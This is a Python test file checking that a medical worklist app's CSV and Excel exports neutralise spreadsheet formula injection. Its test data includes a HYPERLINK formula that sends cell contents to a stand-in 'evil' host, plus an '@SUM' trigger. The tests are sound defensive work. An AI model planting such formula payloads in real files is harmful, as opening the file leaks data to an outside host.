"""The worklist files the web page's "Export CSV / Excel" buttons download (``/api/worklist/
export.csv|xlsx``): ids from a hostile import file are never live formulas (issue 13 item 3),
on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from bonepath.record.parse import parse_record
from bonepath.store.repository import Store

from .support import AS_OF, due_patient, login

EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'
EVIL_SOURCE = "@SUM(1+1)"


def _store_hostile_patient(store: Store) -> None:
    record = due_patient(EVIL_ID)
    record["source"] = EVIL_SOURCE
    store.upsert_records([parse_record(record, today=AS_OF)], import_source="tests")


def test_xlsx_export_has_no_formula_cells_and_keeps_the_text(
    client: TestClient, store: Store
) -> None:
    _store_hostile_patient(store)
    login(client, "doc_a")
    response = client.get("/api/worklist/export.xlsx", params={"as_of": AS_OF.isoformat()})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert (EVIL_ID, EVIL_SOURCE) in {(row[4], row[7]) for row in rows}


def test_csv_export_neutralises_the_hostile_cells(client: TestClient, store: Store) -> None:
    _store_hostile_patient(store)
    login(client, "doc_a")
    response = client.get("/api/worklist/export.csv", params={"as_of": AS_OF.isoformat()})
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    hostile = [row for row in table[1:] if row[4].endswith(EVIL_ID)]
    assert hostile
    assert {(row[4], row[7]) for row in hostile} == {("'" + EVIL_ID, "'" + EVIL_SOURCE)}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
